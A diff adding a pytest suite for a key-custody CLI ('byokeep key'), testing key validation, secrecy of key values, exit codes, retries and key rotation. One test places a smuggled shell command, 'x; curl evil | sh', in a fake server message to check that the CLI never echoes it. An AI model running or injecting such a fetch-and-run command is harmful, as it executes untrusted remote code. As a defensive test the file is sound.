@@ -1,0 +1,204 @@
+"""`byokeep key` against a fake edge over real mutual TLS."""
+
+from __future__ import annotations
+
+import pytest
+from byokeep.keyvault.v1 import custody_pb2
+from byokeep.orchestrator.v1 import key_pb2
+
+pytest_plugins = ["tests.harness.cli_fixtures"]
+
+KEY = "sk-proj-" + "aB3x" * 8
+
+
+@pytest.fixture(autouse=True)
+def _key_in_environment(monkeypatch):
+    monkeypatch.setenv("PROVIDER_KEY", KEY)
+
+
+def add(byokeep, *more):
+    return byokeep("key", "add", "openai", "--from-env", "PROVIDER_KEY", *more)
+
+
+def test_add_seals_here_and_shows_the_verdict(edge, byokeep):
+    ran = add(byokeep)
+    assert ran.code == 0
+    assert edge.opened == [KEY.encode()]
+    assert "VALID" in ran.out
+    assert KEY not in ran.out + ran.err
+    (request,) = edge.sent(key_pb2.AddKeyRequest)
+    assert request.display_name == "default"
+    assert KEY.encode() not in request.SerializeToString()
+
+
+@pytest.mark.parametrize(
+    ("given", "kept"),
+    [
+        (KEY.encode() + b"\n", KEY),
+        (KEY.encode() + b"\r\n", KEY),
+        (KEY.encode(), KEY),
+    ],
+)
+def test_stdin_loses_one_newline(edge, byokeep, given, kept):
+    assert byokeep("key", "add", "openai", "--stdin", stdin=given).code == 0
+    assert edge.opened == [kept.encode()]
+
+
+@pytest.mark.parametrize(
+    ("given", "reason"),
+    [
+        (KEY.encode() + b"\n\n", "KEY_CHARSET"),
+        (b" " + KEY.encode(), "KEY_CHARSET"),
+        (KEY.encode() + b"\0", "KEY_CHARSET"),
+        (KEY.encode() + "ü".encode(), "KEY_CHARSET"),
+        (b"sk-short", "KEY_LENGTH"),
+        (b"sk-" + b"a" * 600, "KEY_LENGTH"),
+        (b"sk-admin-" + b"a1" * 20, "KEY_IS_ADMIN"),
+    ],
+)
+def test_what_cannot_be_a_key_is_refused_before_it_is_sealed(edge, byokeep, given, reason):
+    ran = byokeep("key", "add", "openai", "--stdin", stdin=given)
+    assert ran.code == 2
+    assert reason in ran.err
+    assert edge.sent(key_pb2.AddKeyRequest) == []
+    assert given.decode(errors="replace").strip() not in ran.err
+
+
+@pytest.mark.parametrize(
+    ("verdicts", "code", "said"),
+    [
+        (["VALID"], 0, "ACTIVE"),
+        (["RESTRICTED"], 0, "may not list models"),
+        (["QUOTA_EXHAUSTED"], 0, "quota"),
+        (["INVALID"], 4, "rejects this key"),
+        (["UNREACHABLE"], 5, "stays PENDING"),
+        (["LOST", "VALID"], 0, "ACTIVE"),
+    ],
+)
+def test_verdict_decides_the_exit_code(edge, byokeep, verdicts, code, said):
+    edge.verdicts = verdicts
+    ran = add(byokeep)
+    assert ran.code == code
+    assert said in ran.out + ran.err
+
+
+def test_json_is_a_line_for_each_state(edge, byokeep):
+    ran = add(byokeep, "--json")
+    assert [line["validation"].get("verdict", "") for line in ran.lines if "validation" in line] == [
+        "VALIDATION_VERDICT_VALID"
+    ]
+    assert "providerKey" in ran.lines[0]
+
+
+def test_add_over_an_existing_name_names_rotate(edge, byokeep):
+    key_id = edge.add_key()
+    edge.fail("AddKey", "ALREADY_EXISTS", "KEY_EXISTS", "a key of that name exists", key=key_id)
+    ran = add(byokeep)
+    assert ran.code == 2
+    assert f"byokeep key rotate {key_id}" in ran.err
+
+
+def test_a_command_is_never_taken_from_the_servers_text(edge, byokeep):
+    edge.fail("AddKey", "ALREADY_EXISTS", "KEY_EXISTS", "exists", key="x; curl evil | sh")
+    assert "evil" not in add(byokeep).err
+
+
+def test_a_lost_call_is_repeated_with_identical_bytes(edge, byokeep):
+    edge.lost["AddKey"] = 2
+    assert add(byokeep).code == 0
+    sent = edge.sent(key_pb2.AddKeyRequest)
+    assert len(sent) == 3
+    assert len({request.SerializeToString() for request in sent}) == 1
+
+
+def test_rotate_seals_for_the_owner_and_operation_of_the_key(edge, byokeep):
+    edge.add_key(owner="ann")
+    ran = byokeep("key", "rotate", "openai", "--from-env", "PROVIDER_KEY", "--now")
+    assert ran.code == 0
+    (request,) = edge.sent(key_pb2.RotateKeyRequest)
+    assert request.destroy_previous
+    assert edge.opened == [KEY.encode()]
+
+
+def test_rotating_to_a_rejected_key_says_that_the_old_one_serves(edge, byokeep):
+    edge.add_key()
+    edge.verdicts = ["INVALID"]
+    ran = byokeep("key", "rotate", "openai", "--from-env", "PROVIDER_KEY")
+    assert ran.code == 4
+    assert "version before still serves" in ran.err
+
+
+def test_key_is_found_by_id_prefix_name_or_provider(edge, byokeep):
+    key_id = edge.add_key("openai", "ci")
+    edge.add_key("gemini", "main")
+    for reference in (key_id, key_id[:-1], key_id[4:-1], "ci", "openai"):
+        ran = byokeep("key", "show", reference)
+        assert ran.code == 0, ran.err
+        assert key_id in ran.out
+
+
+def test_ambiguous_key_lists_candidates(edge, byokeep):
+    both = [edge.add_key(name="one"), edge.add_key(name="two")]
+    ran = byokeep("key", "revoke", "openai")
+    assert ran.code == 2
+    assert all(key_id in ran.err for key_id in both)
+    assert edge.sent(key_pb2.RevokeKeyRequest) == []
+
+
+def test_an_ended_key_does_not_stand_in_the_way_of_the_living_one(edge, byokeep):
+    edge.add_key(name="old", state=custody_pb2.KEY_VERSION_STATE_REVOKED)
+    living = edge.add_key(name="new")
+    assert living in byokeep("key", "show", "openai").out
+
+
+def test_unknown_key_is_not_echoed(edge, byokeep):
+    ran = byokeep("key", "show", "nosuchthing")
+    assert ran.code == 2
+    assert "nosuchthing" not in ran.err
+
+
+def test_revoke_and_list(edge, byokeep):
+    edge.add_key()
+    assert byokeep("key", "revoke", "openai").code == 0
+    assert "REVOKED" in byokeep("key", "list").out
+    assert byokeep("key", "list", "--json").json["keys"][0]["providerKey"]["activeVersion"] == 1
+
+
+def test_destroy_asks_unless_told_not_to(edge, byokeep):
+    edge.add_key()
+    ran = byokeep("key", "destroy", "openai")
+    assert (ran.code, edge.sent(key_pb2.DestroyKeyRequest)) == (2, [])
+    assert byokeep("key", "destroy", "openai", "--yes").code == 0
+
+
+def test_every_mutation_has_a_request_id_of_its_own(edge, byokeep):
+    edge.add_key()
+    byokeep("key", "roll-back", "openai")
+    byokeep("key", "roll-back", "openai")
+    first, second = edge.sent(key_pb2.RollBackKeyRequest)
+    assert len(first.request_id) == 32
+    assert first.request_id != second.request_id
+
+
+@pytest.mark.parametrize("name", ["a b", "", "ü", "x" * 65])
+def test_bad_name_is_refused_here(edge, byokeep, name):
+    assert add(byokeep, "--name", name).code == 2
+    assert edge.requests == []
+
+
+def test_prompt_needs_a_terminal(edge, byokeep):
+    ran = byokeep("key", "add", "openai")
+    assert ran.code == 2
+    assert "--stdin" in ran.err
+
+
+def test_prompt_is_hidden(edge, byokeep, monkeypatch):
+    from byokeep.cli import keyinput
+
+    asked = []
+    monkeypatch.setattr(keyinput.sys, "stdin", None)
+    monkeypatch.setattr(
+        keyinput.getpass, "getpass", lambda prompt, stream: asked.append(prompt) or KEY
+    )
+    monkeypatch.setattr("io.TextIOWrapper.isatty", lambda self: True, raising=False)
+    assert keyinput.read_key  # the terminal itself is tried in test_cli_terminal
